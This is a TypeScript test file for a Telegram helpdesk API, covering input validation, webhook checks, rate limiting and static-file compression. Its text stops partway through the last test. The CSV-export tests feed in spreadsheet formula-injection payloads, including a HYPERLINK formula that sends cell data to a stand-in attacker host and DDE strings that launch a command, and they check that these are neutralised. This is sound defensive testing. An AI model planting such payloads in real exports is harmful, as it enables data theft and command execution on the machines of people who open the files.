// Issue 10, "the API must never answer 500 to bad input": instants beyond any sane date, references to
// rows that do not exist. Every bad case is a 4xx JSON error and leaves the store as it was.
import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  brotliCompressSync,
  brotliDecompressSync,
  gunzipSync,
  gzipSync,
  constants as zlibConstants,
} from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { Api } from 'grammy';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_RATE_LIMITS, type RateLimits, TokenBuckets } from '../api/rate-limit.ts';
import { loadConfig } from '../app/config.ts';
import { createLogger } from '../app/logger.ts';
import { type RunningApp, startApp } from '../app/run.ts';
import { Notifier } from '../bot/notifier.ts';
import { InvalidInputError } from '../core/errors.ts';
import { ManualClock } from '../core/model.ts';
import { act, type Command } from '../core/tickets/act.ts';
import { createTicket } from '../core/tickets/create.ts';
import { execute, queryAll, queryOne } from '../db/access.ts';
import { companies, memberships, outbox, people } from '../db/schema.ts';
import { startEmulator } from '../emulator/index.ts';
import { type Answer, type ApiWorld, apiWorld, call } from './api-harness.ts';
import { makeWorld, type PersonKey, storeSnapshot } from './fixtures.ts';
import { onPostgres } from './support/test-store.ts';

const DAY = 86_400_000;
const HOUR = 3_600_000;
/** The largest instant a JavaScript date holds, and beyond it. */
const EDGE = 8_639_999_913_600_000;

function expectRefused(res: Answer, where: string, status?: number): void {
  if (status !== undefined) expect(res.status, where).toBe(status);
  expect(res.status, where).toBeGreaterThanOrEqual(400);
  expect(res.status, where).toBeLessThan(500);
  expect(res.headers.get('content-type'), where).toContain('application/json');
  expect(res.json?.error?.code, where).toMatch(/^[a-z_]+$/);
}

interface Bad {
  name: string;
  method: string;
  path: string;
  body?: unknown;
  who?: PersonKey;
  status?: number;
  message?: RegExp;
}

async function refusesAll(w: ApiWorld, list: Bad[]): Promise<void> {
  const start = await storeSnapshot(w.ctx.db);
  for (const bad of list) {
    const res = await call(w, bad.who ?? 'admin', bad.method, bad.path, bad.body);
    const where = `${bad.method} ${bad.path}: ${bad.name}`;
    expectRefused(res, where, bad.status);
    if (bad.message) expect(res.json.error.message, where).toMatch(bad.message);
    expect(await storeSnapshot(w.ctx.db), `${where} wrote something`).toBe(start);
  }
}

describe('instants beyond a sane range (2000-01-01 … 2100-01-01)', () => {
  let w: ApiWorld;
  let ticketId: number;
  beforeAll(async () => {
    w = await apiWorld();
    ticketId = (await createTicket(w.ctx, w.as.clientA, { channel: 'telegram', description: 'A printer' }))
      .id;
  });

  it('are 400 on every route that takes one, and nothing is written or sent', async () => {
    const now = w.clock.now();
    const far = [EDGE, -EDGE, Date.UTC(2100, 0, 2), Date.UTC(1999, 11, 31), 1e15];
    const list: Bad[] = far.flatMap((at) => [
      {
        name: `send from ${at}`,
        method: 'POST',
        path: '/api/reports/send',
        body: { from: at, to: now, format: 'csv' },
        status: 400,
      },
      {
        name: `send to ${at}`,
        method: 'POST',
        path: '/api/reports/send',
        body: { from: now - DAY, to: at, format: 'xlsx' },
        status: 400,
      },
      { name: `report from ${at}`, method: 'GET', path: `/api/reports?from=${at}&to=${now}`, status: 400 },
      {
        name: `report csv to ${at}`,
        method: 'GET',
        path: `/api/reports/export.csv?from=${now - DAY}&to=${at}`,
        status: 400,
      },
      {
        name: `report xlsx to ${at}`,
        method: 'GET',
        path: `/api/reports/export.xlsx?from=${now - DAY}&to=${at}`,
        status: 400,
      },
      { name: `tickets from ${at}`, method: 'GET', path: `/api/tickets?from=${at}`, status: 400 },
      { name: `tickets to ${at}`, method: 'GET', path: `/api/tickets/export.csv?to=${at}`, status: 400 },
      {
        name: `tickets xlsx from ${at}`,
        method: 'GET',
        path: `/api/tickets/export.xlsx?from=${at}`,
        status: 400,
      },
      {
        name: `a contract from ${at}`,
        method: 'PATCH',
        path: '/api/admin/contracts/1',
        body: { startsAt: at },
        status: 400,
      },
      {
        name: `a contract until ${at}`,
        method: 'PATCH',
        path: '/api/admin/contracts/1',
        body: { endsAt: at },
        status: 400,
      },
      {
        name: `a visit at ${at}`,
        method: 'POST',
        path: `/api/tickets/${ticketId}/actions`,
        body: { action: 'schedule_visit', startsAt: at, endsAt: at + 3_600_000 },
        who: 'line1',
        status: 400,
      },
      {
        name: `a visit offered at ${at}`,
        method: 'POST',
        path: `/api/tickets/${ticketId}/actions`,
        body: { action: 'offer_visit', slots: [{ startsAt: at - 3_600_000, endsAt: at }] },
        who: 'line1',
        status: 400,
      },
    ]);
    list.push(
      ...['1999-12-31', '2100-01-01', '9999-12-31', '0000-01-01'].map((date) => ({
        name: `a holiday on ${date}`,
        method: 'PATCH',
        path: '/api/admin/calendars/1',
        body: { exceptions: [{ date, hours: [] }] },
        status: 400,
      })),
    );
    await refusesAll(w, list);
    expect(w.sent).toEqual([]);
  });

  it('still takes the periods and contracts people use', async () => {
    const now = w.clock.now();
    const send = await call(w, 'admin', 'POST', '/api/reports/send', {
      from: now - 30 * DAY,
      to: now,
      format: 'csv',
    });
    expect(send.status).toBe(202);
    const list = await call(
      w,
      'admin',
      'GET',
      `/api/tickets?from=${Date.UTC(2000, 0, 1)}&to=${Date.UTC(2100, 0, 1)}`,
    );
    expect(list.status).toBe(200);
    // A desk's default contract starts "since always" (the epoch); a form sends that back as a local midnight.
    const contract = await call(w, 'admin', 'PATCH', '/api/admin/contracts/1', { startsAt: -3 * 3_600_000 });
    expect(contract.status).toBe(200);
  });
});

describe('references to rows that do not exist', () => {
  it('are 400 "no such …" from core, never a failed foreign key', async () => {
    const w = await apiWorld();
    const ticket = (
      await createTicket(w.ctx, w.as.clientA, { channel: 'telegram', description: 'A printer' })
    ).id;
    await act(w.ctx, w.as.line1, ticket, { action: 'triage' });
    await act(w.ctx, w.as.line1, ticket, { action: 'take' });
    const contract = {
      name: 'C',
      startsAt: w.clock.now(),
      slaTargets: {
        P1: { firstResponse: 15, resolution: 240 },
        P2: { firstResponse: 30, resolution: 480 },
        P3: { firstResponse: 60, resolution: 960 },
        P4: { firstResponse: 240, resolution: 2400 },
      },
      priorityMatrix: {
        company: { high: 'P1', medium: 'P1', low: 'P2' },
        department: { high: 'P1', medium: 'P2', low: 'P3' },
        person: { high: 'P2', medium: 'P3', low: 'P4' },
      },
    };
    await refusesAll(w, [
      {
        name: 'an invite to no company',
        method: 'POST',
        path: '/api/admin/invites',
        body: { role: 'client', companyId: 999 },
        status: 400,
        message: /no such company/,
      },
      {
        name: 'a manager invite to no company',
        method: 'POST',
        path: '/api/admin/invites',
        body: { role: 'client_manager', companyId: 12345 },
        status: 400,
        message: /no such company/,
      },
      {
        name: 'a contract of no company',
        method: 'POST',
        path: '/api/admin/contracts',
        body: { ...contract, companyId: 999 },
        status: 400,
        message: /no such company/,
      },
      {
        name: 'a contract on no calendar',
        method: 'POST',
        path: '/api/admin/contracts',
        body: { ...contract, companyId: null, calendarId: 999 },
        status: 400,
        message: /no such calendar/,
      },
      {
        name: 'a contract moved to no company',
        method: 'PATCH',
        path: '/api/admin/contracts/1',
        body: { companyId: 999 },
        status: 400,
        message: /no such company/,
      },
      {
        name: 'a role at no company',
        method: 'POST',
        path: `/api/admin/people/${w.ids.stranger}/roles`,
        body: { role: 'client', companyId: 999 },
        status: 400,
        message: /no such company/,
      },
      {
        name: 'a role for no one',
        method: 'POST',
        path: '/api/admin/people/999/roles',
        body: { role: 'line1' },
        status: 404,
      },
      {
        name: 'a role of no one taken away',
        method: 'DELETE',
        path: '/api/admin/people/999/roles/1',
        status: 404,
      },
      {
        name: 'no one renamed',
        method: 'PATCH',
        path: '/api/admin/people/999',
        body: { name: 'X' },
        status: 404,
      },
      ...(['companies', 'contracts', 'calendars', 'categories'] as const).map((what) => ({
        name: `no such ${what} changed`,
        method: 'PATCH',
        path: `/api/admin/${what}/999`,
        body: { name: 'X' },
        status: 404,
      })),
      {
        name: 'a ticket assigned to no one',
        method: 'POST',
        path: `/api/tickets/${ticket}/actions`,
        body: { action: 'assign', assigneeId: 999 },
        who: 'line1',
        status: 400,
      },
      {
        name: 'a visit by no engineer',
        method: 'POST',
        path: `/api/tickets/${ticket}/actions`,
        body: {
          action: 'schedule_visit',
          startsAt: w.clock.now() + DAY,
          endsAt: w.clock.now() + DAY + HOUR,
          engineerId: 999,
        },
        who: 'line1',
        status: 400,
      },
      {
        name: 'a comment on no ticket',
        method: 'POST',
        path: '/api/tickets/999/comments',
        body: { body: 'x' },
        status: 404,
      },
      {
        name: 'a ticket for no one',
        method: 'POST',
        path: '/api/tickets',
        body: { description: 'x', impact: 'person', urgency: 'low', requesterId: 999 },
        who: 'line1',
      },
      {
        name: 'a ticket of no company',
        method: 'POST',
        path: '/api/tickets',
        body: { description: 'x', impact: 'person', urgency: 'low', companyId: 999 },
        who: 'line1',
      },
      {
        name: 'a ticket in no category',
        method: 'POST',
        path: '/api/tickets',
        body: { description: 'x', impact: 'person', urgency: 'low', categoryId: 999 },
        who: 'clientA',
      },
    ]);
    // The list of people at no company is simply empty.
    const none = await call(w, 'admin', 'GET', '/api/admin/people?companyId=999');
    expect(none.status).toBe(200);
    expect(none.json.people).toEqual([]);
  });
});

describe('visit times', () => {
  it('are refused in core unless they start within the next 90 days, end after they start and last ≤ 12 h', async () => {
    const w = await makeWorld();
    const t = await createTicket(w.ctx, w.as.clientA, { channel: 'telegram', description: 'The printer' });
    await act(w.ctx, w.as.line1, t.id, { action: 'triage' });
    await act(w.ctx, w.as.line1, t.id, { action: 'take' });
    const now = w.clock.now();
    const slot = (startsAt: number, endsAt: number) => ({ startsAt, endsAt });
    const bad: [Command, RegExp][] = [
      [{ action: 'schedule_visit', ...slot(now + 91 * DAY, now + 91 * DAY + HOUR) }, /90 days/],
      [{ action: 'schedule_visit', ...slot(now + DAY, now + DAY + 13 * HOUR) }, /12 hours/],
      [{ action: 'schedule_visit', ...slot(now - HOUR, now + HOUR) }, /future/],
      [{ action: 'schedule_visit', ...slot(now + DAY, now + DAY) }, /end after/],
      [
        {
          action: 'offer_visit',
          slots: [slot(now + DAY, now + DAY + HOUR), slot(now + 200 * DAY, now + 200 * DAY + HOUR)],
        },
        /90 days/,
      ],
      [{ action: 'offer_visit', slots: [slot(now + DAY, now + 2 * DAY)] }, /12 hours/],
    ];
    const before = await storeSnapshot(w.ctx.db);
    for (const [cmd, message] of bad) {
      const where = JSON.stringify(cmd);
      await expect(act(w.ctx, w.as.line1, t.id, cmd), where).rejects.toThrow(InvalidInputError);
      await expect(act(w.ctx, w.as.line1, t.id, cmd), where).rejects.toThrow(message);
    }
    expect(await storeSnapshot(w.ctx.db)).toBe(before);
    // The edges themselves are fine: 90 days ahead, 12 hours long.
    await act(w.ctx, w.as.line1, t.id, {
      action: 'offer_visit',
      slots: [slot(now + 90 * DAY - 12 * HOUR, now + 90 * DAY)],
    });
  });

  it('far in the future are 400 through the API, and nothing is queued for the client', async () => {
    const w = await apiWorld();
    const t = await createTicket(w.ctx, w.as.clientA, { channel: 'telegram', description: 'The printer' });
    await act(w.ctx, w.as.line1, t.id, { action: 'triage' });
    await act(w.ctx, w.as.line1, t.id, { action: 'take' });
    const now = w.clock.now();
    await refusesAll(
      w,
      [
        { action: 'schedule_visit', startsAt: now + 365 * DAY, endsAt: now + 365 * DAY + 2 * HOUR },
        { action: 'offer_visit', slots: [{ startsAt: now + 100 * DAY, endsAt: now + 100 * DAY + 2 * HOUR }] },
        { action: 'offer_visit', slots: [{ startsAt: now + DAY, endsAt: now + 3 * DAY }] },
      ].map((body) => ({
        name: JSON.stringify(body),
        method: 'POST',
        path: `/api/tickets/${t.id}/actions`,
        body,
        who: 'line1' as const,
        status: 400,
      })),
    );
  });
});

describe('a notice that cannot be rendered', () => {
  it('is a dead letter at once with its error kept, and the next notice to that person still goes', async () => {
    const w = await makeWorld();
    const emu = await startEmulator();
    const errors: unknown[] = [];
    const notifier = new Notifier({
      desk: w.ctx,
      api: new Api(emu.token, { apiRoot: emu.apiRoot }),
      idleMs: 20,
      onError: (error) => errors.push(error),
    });
    try {
      emu.user({ id: 91_001, first_name: 'P' });
      const person = await queryOne(
        w.ctx.db.insert(people).values({ name: 'P', telegramUserId: 91_001, createdAt: 0 }).returning(),
      );
      const notice = (n: number, kind: string, payload: Record<string, unknown>) => ({
        createdAt: 0,
        recipientId: person.id,
        channel: 'telegram' as const,
        kind,
        payload: { number: 7, ...payload },
        idempotencyKey: `render:${n}`,
        nextAttemptAt: 0,
      });
      // A visit stored before times were bounded: its text cannot be written (no such date).
      await execute(
        w.ctx.db.insert(outbox).values([
          notice(1, 'requester.schedule_visit', {
            event: 'schedule_visit',
            startsAt: EDGE * 2,
            endsAt: EDGE * 2 + 1,
          }),
          notice(2, 'requester.comment', { event: 'comment', body: 'after it' }),
        ]),
      );
      await notifier.start();
      const rows = async () => await queryAll(w.ctx.db.select().from(outbox).orderBy(outbox.id));
      await emu.waitFor(
        async () => (await rows()).every((o) => o.state === 'sent' || o.state === 'dead'),
        10_000,
      );
      const [broken, next] = await rows();
      expect(broken).toMatchObject({ state: 'dead', attempts: 1 });
      expect(broken?.lastError).toMatch(/^cannot be sent: RangeError/);
      expect(next?.state).toBe('sent');
      const inbox = emu.user({ id: 91_001, first_name: '' }).inbox();
      expect(inbox.map((m) => m.text?.split('\n').at(-1))).toEqual(['after it']);
      expect(errors).toHaveLength(1);
    } finally {
      await notifier.stop();
      await emu.close();
    }
  });
});

describe('the webhook', () => {
  // Starts a desk of its own on SQLite; tests/postgres/desk.test.ts starts one on PostgreSQL.
  it.skipIf(onPostgres)(
    'answers a post with the right secret but no update in its body 400, and a wrong secret still 401',
    async () => {
      const emu = await startEmulator();
      const secret = 'a-secret-of-the-right-length-456';
      const config = loadConfig({
        BOT_TOKEN: emu.token,
        BOT_API_ROOT: emu.apiRoot,
        DATABASE_PATH: ':memory:',
        PORT: '0',
        HOST: '127.0.0.1',
        WEBHOOK_URL: 'https://desk.example.org/telegram',
        WEBHOOK_SECRET: secret,
      });
      const app = await startApp(config, { log: () => {}, logger: createLogger({ level: 'silent' }) });
      try {
        const post = (body: string, token?: string) =>
          fetch(`http://127.0.0.1:${app.port}/telegram`, {
            method: 'POST',
            headers: {
              'content-type': 'application/json',
              ...(token ? { 'x-telegram-bot-api-secret-token': token } : {}),
            },
            body,
          });
        for (const body of [
          '{"update_id": 1, "message": ',
          '',
          'null',
          '[]',
          '42',
          '"x"',
          '{"message": {}}',
        ]) {
          const res = await post(body, secret);
          expect(res.status, body).toBe(400);
          expect(((await res.json()) as { error: { code: string } }).error.code, body).toBe('invalid_input');
        }
        expect((await post('{"update_id": ', 'wrong-secret')).status).toBe(401);
        // A real update still goes through.
        const user = emu.user({ id: 777_002, first_name: 'Webhook' });
        const update = {
          update_id: 10,
          message: {
            message_id: 1,
            date: Math.floor(Date.now() / 1000),
            chat: { id: user.chatId, type: 'private', first_name: 'Webhook' },
            from: { id: user.id, is_bot: false, first_name: 'Webhook' },
            text: '/help',
            entities: [{ type: 'bot_command', offset: 0, length: 5 }],
          },
        };
        expect((await post(JSON.stringify(update), secret)).status).toBe(200);
        await user.waitForMessage('/new — Новая заявка');
      } finally {
        await app.stop();
        await emu.close();
      }
    },
  );
});

describe('CSV the desk writes', () => {
  const NASTY = [
    'x;=1+1;end',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "a,+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    'first line\n=1+1',
    'tab\t=1',
    'quote;"=2+2',
    '\t-lead',
  ];
  const FORMULA = /^[=+\-@\t\r]/;

  /** Every cell as a CSV reader sees it, and every piece Excel could cut a line into on ";" or ",". */
  function assertSafe(text: string, separator: ';' | ',', where: string): string[][] {
    expect(text.startsWith('\uFEFF'), where).toBe(true);
    const body = text.slice(1);
    const rows = parse(body, { delimiter: separator, relax_column_count: true }) as string[][];
    for (const cell of rows.flat())
      expect(cell, `${where}: cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
    // Opened with the other list separator, or cut at line breaks inside quoted cells: no piece (past the
    // quotes and spaces it may start with) is a formula.
    for (const piece of body.split(/[;,\r\n]/)) {
      expect(piece.replace(/^[" ]+/, ''), `${where}: piece ${JSON.stringify(piece)}`).not.toMatch(FORMULA);
    }
    return rows;
  }

  it('neutralises formulas at the start of a cell and after every separator, in Russian and English', async () => {
    const w = await apiWorld();
    for (const [i, subject] of NASTY.entries()) {
      await createTicket(w.ctx, w.as.clientA, {
        channel: 'telegram',
        subject,
        description: `${subject} ${i}`,
      });
    }
    const evil = await queryOne(
      w.ctx.db.insert(companies).values({ name: 'Evil;=cmd|" /C calc"!A0', createdAt: 0 }).returning(),
    );
    const mole = await queryOne(
      w.ctx.db
        .insert(people)
        .values({ name: '-Mole, =1+1', phone: '+79160000001', createdAt: 0 })
        .returning(),
    );
    await execute(
      w.ctx.db.insert(memberships).values({ personId: mole.id, role: 'client', companyId: evil.id }),
    );
    const now = w.clock.now();
    for (const language of ['ru', 'en'] as const) {
      await execute(w.ctx.db.update(people).set({ language }).where(eq(people.id, w.ids.admin)));
      const list = await call(w, 'admin', 'GET', '/api/tickets/export.csv');
      expect(list.status).toBe(200);
      const rows = assertSafe(list.text, ',', `${language} ticket list`);
      // Each subject reads back whole, its formulas behind a quote mark.
      const cells = rows.flat();
      expect(cells).toContain("x;'=1+1;end");
      expect(cells).toContain('\'=HYPERLINK("http://evil.example/?"&A1)');
      expect(cells).toContain("'@SUM(A1:A9)");
      expect(cells).toContain("first line\n'=1+1");
      const report = await call(
        w,
        'admin',
        'GET',
        `/api/reports/export.csv?from=${now - 30 * DAY}&to=${now + DAY}`,
      );
      expect(report.status).toBe(200);
      expect(assertSafe(report.text, ',', `${language} report`).flat()).toContain('quote;"\'=2+2');
      const directory = await call(w, 'admin', 'GET', '/api/admin/directory/export.csv');
      expect(directory.status).toBe(200);
      const entries = assertSafe(directory.text, ';', `${language} directory`).flat();
      expect(entries).toContain('Evil;\'=cmd|" /C calc"!A0');
      expect(entries).toContain("'-Mole, '=1+1");
      expect(entries).toContain("'+79160000001");
    }
  });

  it('reads a directory it exported back as it was (the quote marks taken off again)', async () => {
    const w = await apiWorld();
    const evil = await queryOne(
      w.ctx.db.insert(companies).values({ name: 'Evil;=cmd', createdAt: 0 }).returning(),
    );
    const mole = await queryOne(
      w.ctx.db.insert(people).values({ name: 'Mole, =1+1', phone: '+79160000001', createdAt: 0 }).returning(),
    );
    await execute(
      w.ctx.db.insert(memberships).values({ personId: mole.id, role: 'client', companyId: evil.id }),
    );
    const exported = await call(w, 'admin', 'GET', '/api/admin/directory/export.csv');
    const preview = await call(w, 'admin', 'POST', '/api/admin/directory/preview', exported.text, {
      'Content-Type': 'text/csv',
    });
    expect(preview.status).toBe(200);
    expect(preview.json.counts).toMatchObject({ total: 6, unchanged: 6 });
    expect(preview.json.rows.at(-1)).toMatchObject({ company: 'Evil;=cmd', name: 'Mole, =1+1' });
  });
});

describe('rate limits', () => {
  const limited = async (limits: Partial<RateLimits>) => {
    const clock = new ManualClock(0);
    const w = await apiWorld(
      {},
      { rateLimit: { perPerson: 0, perIp: 0, authFailuresPerIp: 0, ...limits, clock } },
    );
    return { w, clock };
  };
  const FORGED = { Authorization: 'tma user=%7B%22id%22%3A1%7D&auth_date=1&hash=00' };

  function expectTooMany(res: Answer, retryAfter: number, where = ''): void {
    expect(res.status, where).toBe(429);
    expect(res.headers.get('content-type'), where).toContain('application/json');
    expect(res.json.error.code, where).toBe('rate_limited');
    expect(res.headers.get('retry-after'), where).toBe(String(retryAfter));
  }

  it('per person: a minute’s allowance at once, then 429 with Retry-After until it refills', async () => {
    const { w, clock } = await limited({ perPerson: 5 });
    for (let i = 0; i < 5; i++) expect((await call(w, 'managerA', 'GET', '/api/me')).status).toBe(200);
    const refused = await call(w, 'managerA', 'GET', '/api/tickets');
    expectTooMany(refused, 12); // a token every 60 / 5 = 12 s
    // Someone else is not held up by it.
    expect((await call(w, 'line1', 'GET', '/api/me')).status).toBe(200);
    clock.advance(11_000);
    expect((await call(w, 'managerA', 'GET', '/api/me')).status).toBe(429);
    clock.advance(1_000);
    expect((await call(w, 'managerA', 'GET', '/api/me')).status).toBe(200);
    expect((await call(w, 'managerA', 'GET', '/api/me')).status).toBe(429);
  });

  it('per address, before authentication: X-Forwarded-For only when the proxy is trusted', async () => {
    const { w } = await limited({ perIp: 3, trustProxy: true });
    const from = (ip: string) => ({ 'X-Forwarded-For': `203.0.113.9, ${ip}` });
    for (const who of ['clientA', 'managerA', null] as const) {
      const res = await call(w, who, 'GET', '/api/me', undefined, from('10.0.0.1'));
      expect(res.status).toBe(who === null ? 401 : 200);
    }
    expectTooMany(await call(w, 'admin', 'GET', '/api/me', undefined, from('10.0.0.1')), 20);
    expect((await call(w, 'admin', 'GET', '/api/me', undefined, from('10.0.0.2'))).status).toBe(200);
    // Without a trusted proxy the header is the client's own word: the socket's address counts.
    const direct = (await limited({ perIp: 3 })).w;
    for (const ip of ['10.0.0.1', '10.0.0.2', '10.0.0.3'])
      expect((await call(direct, 'admin', 'GET', '/api/me', undefined, from(ip))).status).toBe(200);
    expect((await call(direct, 'admin', 'GET', '/api/me', undefined, from('10.0.0.4'))).status).toBe(429);
  });

  it('failed sign-ins per address: used up, the address is refused even with good init data, for a while', async () => {
    const { w, clock } = await limited({ authFailuresPerIp: 3 });
    for (let i = 0; i < 3; i++)
      expect((await call(w, null, 'GET', '/api/me', undefined, FORGED)).status).toBe(401);
    const start = await storeSnapshot(w.ctx.db);
    expectTooMany(await call(w, 'admin', 'GET', '/api/me'), 20);
    expectTooMany(await call(w, null, 'POST', '/api/tickets', { description: 'x' }, FORGED), 20);
    expect(await storeSnapshot(w.ctx.db)).toBe(start);
    clock.advance(20_000);
    expect((await call(w, 'admin', 'GET', '/api/me')).status).toBe(200);
    // Good requests do not count against it.
    for (let i = 0; i < 10; i++) expect((await call(w, 'admin', 'GET', '/api/me')).status).toBe(200);
  });

  it('with the defaults: a busy manager is never refused; 300 forged requests in a row are', async () => {
    const { w, clock } = await limited(DEFAULT_RATE_LIMITS);
    // Ten minutes of a manager clicking through reports: 100 requests a minute, in bursts of 50.
    for (let minute = 0; minute < 10; minute++) {
      for (let i = 0; i < 100; i++) {
        if (i === 50) clock.advance(30_000);
        const res = await call(w, 'managerA', 'GET', '/api/me');
        expect(res.status, `minute ${minute}, request ${i}`).toBe(200);
      }
      clock.advance(30_000);
    }
    const statuses: number[] = [];
    for (let i = 0; i < 300; i++)
      statuses.push((await call(w, null, 'GET', '/api/me', undefined, FORGED)).status);
    expect(statuses.filter((s) => s === 401)).toHaveLength(DEFAULT_RATE_LIMITS.authFailuresPerIp);
    expect(statuses.filter((s) => s === 429)).toHaveLength(300 - DEFAULT_RATE_LIMITS.authFailuresPerIp);
  }, 30_000);

  it('forget who has been quiet for a minute once many are remembered', () => {
    const clock = new ManualClock(0);
    const buckets = new TokenBuckets(10, clock);
    for (let i = 0; i < 10_000; i++) buckets.take(`10.0.${i >> 8}.${i & 255}`);
    expect(buckets.size).toBe(10_000);
    clock.advance(30_000);
    buckets.take('192.0.2.1'); // nobody quiet long enough yet
    expect(buckets.size).toBe(10_001);
    clock.advance(30_000);
    buckets.take('192.0.2.2');
    expect(buckets.size).toBe(2);
  });

  // Starts a desk of its own on SQLite; tests/postgres/desk.test.ts starts one on PostgreSQL.
  it.skipIf(onPostgres)(
    'are read from the environment, checked at start, and count the socket’s address',
    async () => {
      expect(loadConfig({}).apiRateLimit).toEqual({ ...DEFAULT_RATE_LIMITS, trustProxy: false });
      expect(
        loadConfig({ API_RATE_LIMIT_PERSON: '0', API_RATE_LIMIT_IP: '1000', TRUST_PROXY: '1' }).apiRateLimit,
      ).toMatchObject({ perPerson: 0, perIp: 1000, trustProxy: true });
      for (const [name, value] of [
        ['API_RATE_LIMIT_PERSON', 'lots'],
        ['API_RATE_LIMIT_IP', '-1'],
        ['API_RATE_LIMIT_AUTH_FAILURES', '1.5'],
        ['TRUST_PROXY', 'maybe'],
      ] as const) {
        expect(() => loadConfig({ [name]: value }), name).toThrow(name);
      }

      const emu = await startEmulator();
      let app: RunningApp | undefined;
      try {
        const config = loadConfig({
          BOT_TOKEN: emu.token,
          BOT_API_ROOT: emu.apiRoot,
          DATABASE_PATH: ':memory:',
          PORT: '0',
          HOST: '127.0.0.1',
          API_RATE_LIMIT_AUTH_FAILURES: '2',
        });
        app = await startApp(config, { log: () => {}, logger: createLogger({ level: 'silent' }) });
        const me = (forwardedFor: string) =>
          fetch(`http://127.0.0.1:${app?.port}/api/me`, {
            headers: { ...FORGED, 'X-Forwarded-For': forwardedFor },
          });
        expect((await me('10.0.0.1')).status).toBe(401);
        expect((await me('10.0.0.2')).status).toBe(401);
        const refused = await me('10.0.0.3');
        expect(refused.status).toBe(429);
        expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
        // The rest of the server is not behind the API's limits.
        expect((await fetch(`http://127.0.0.1:${app.port}/healthz`)).status).toBe(200);
      } finally {
        await app?.stop();
        await emu.close();
      }
    },
  );
});

describe('the Mini App’s files', () => {
  const dir = mkdtempSync(join(tmpdir(), 'tgdesk-static-'));
  const script = `console.log(${JSON.stringify('привет, '.repeat(5000))});`;
  const page = `<!doctype html><html><head><title>tgdesk</title></head><body>${'<div></div>'.repeat(200)}</body></html>`;
  let w: ApiWorld;
  beforeAll(async () => {
    writeFileSync(join(dir, 'index.html'), page);
    writeFileSync(join(dir, 'small.txt'), 'tiny');
    writeFileSync(join(dir, 'logo.png'), new Uint8Array(4000).fill(7));
    writeFileSync(join(dir, 'app-Bx12aB.js'), script);
    w = await apiWorld({}, { miniappDir: dir });
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  const get = async (path: string, acceptEncoding?: string) =>
    call(
      w,
      null,
      'GET',
      path,
      undefined,
      acceptEncoding === undefined ? {} : { 'Accept-Encoding': acceptEncoding },
    );
  const decoded = (res: Answer): string => {
    const encoding = res.headers.get('content-encoding');
    const bytes =
      encoding === 'br'
        ? brotliDecompressSync(res.bytes)
        : encoding === 'gzip'
          ? gunzipSync(res.bytes)
          : res.bytes;
    return new TextDecoder().decode(bytes);
  };

  it('are sent brotli or gzip as Accept-Encoding allows, with Vary, and cached as before', async () => {
    for (const [accept, expected] of [
      ['gzip, deflate, br, zstd', 'br'],
      ['gzip', 'gzip'],
      ['br;q=0, gzip;q=0.8', 'gzip'],
      ['*', 'br'],
      ['identity', null],
      [undefined, null],
      ['gzip;q=0, br;q=0', null],
    ] as const) {
      const res = await get('/app-Bx12aB.js', accept);
      const where = String(accept);
      expect(res.status, where).toBe(200);
      expect(res.headers.get('content-encoding'), where).toBe(expected);
      expect(res.headers.get('vary'), where).toBe('Accept-Encoding');
      expect(res.headers.get('content-type'), where).toContain('text/javascript');
      expect(res.headers.get('cache-control'), where).toBe('public, max-age=31536000, immutable');
      expect(decoded(res), where).toBe(script);
      if (expected) expect(res.bytes.byteLength, where).toBeLessThan(script.length / 5);
    }
    // The page itself (and any path the app routes) is compressed too, and never cached stale.
    for (const path of ['/', '/index.html', '/tickets/42']) {
      const res = await get(path, 'gzip, br');
      expect(res.headers.get('content-encoding'), path).toBe('br');
      expect(res.headers.get('cache-control'), path).toBe('no-cache');
      expect(decoded(res), path).toBe(page);
    }
    // Images are compressed already, tiny files are not worth it.
    for (const path of ['/logo.png', '/small.txt']) {
      const res = await get(path, 'gzip, br');
      expect(res.headers.get('content-encoding'), path).toBeNull();
      expect(res.headers.get('vary'), path).toBeNull();
    }
  });

  it('are sent as the build compressed them (<file>.br, <file>.gz) unless those are older than the file', async () => {
    // Compressed at other levels than the server's own, so the bytes tell which copy was sent.
    const built = `console.log(${JSON.stringify('собрано, '.repeat(4000))});`;
    const br = brotliCompressSync(built, { params: { [zlibConstants.BROTLI_PARAM_QUALITY]: 1 } });
    const gz = gzipSync(built, { level: 1 });
    mkdirSync(join(dir, 'assets'), { recursive: true });
    const file = join(dir, 'assets', 'index-Zz09xY.js');
    writeFileSync(file, built);
    writeFileSync(`${file}.br`, br);
    writeFileSync(`${file}.gz`, gz);
    const cases = [
      ['gzip, deflate, br, zstd', 'br', br],
      ['gzip, deflate', 'gzip', gz],
      ['identity', null, null],
      [undefined, null, null],
    ] as const;
    for (const [accept, expected, bytes] of cases) {
      const res = await get('/assets/index-Zz09xY.js', accept);
      const where = String(accept);
      expect(res.status, where).toBe(200);
      expect(res.headers.get('content-encoding'), where).toBe(expected);
      expect(res.headers.get('vary'), where).toBe('Accept-Encoding');
      expect(res.headers.get('cache-control'), where).toBe('public, max-age=31536000, immutable');
      expect(res.headers.get('content-type'), where).toContain('text/javascript');
      if (bytes) expect(Buffer.from(res.bytes).equals(bytes), where).toBe(true);
      expect(decoded(res), where).toBe(built);
    }
    // Copies older than the file (a file changed after the build) are not trusted: compressed here instead.
    const stale = join(dir, 'assets', 'stale-Qq11wW.js');
    writeFileSync(stale, built);
    writeFileSync(`${stale}.br`, brotliCompressSync('old'));
    writeFileSync(`${stale}.gz`, gzipSync('old'));
    const past = new Date(Date.now() - 60_000);
    utimesSync(`${stale}.br`, past, past);
    utimesSync(`${stale}.gz`, past, past);
    for (const accept of ['br', 'gzip']) {
      const res = await get('/assets/stale-Qq11wW.js', accept);
      expect(res.headers.get('content-encoding'), accept).toBe(accept);
      expect(decoded(res), accept).toBe(built);
    }
  });

  it('answer 404 for a file that is not there, and the page for any other path', async () => {
    for (const path of ['/assets/index-Missing1.js', '/assets/x', '/favicon.ico', '/app-Bx12aB.css']) {
      const res = await get(path, 'gzip, br');
      expect(res.status, path).toBe(404);
      expect(res.headers.get('cache-control') ?? '', path).not.toContain('immutable');
    }
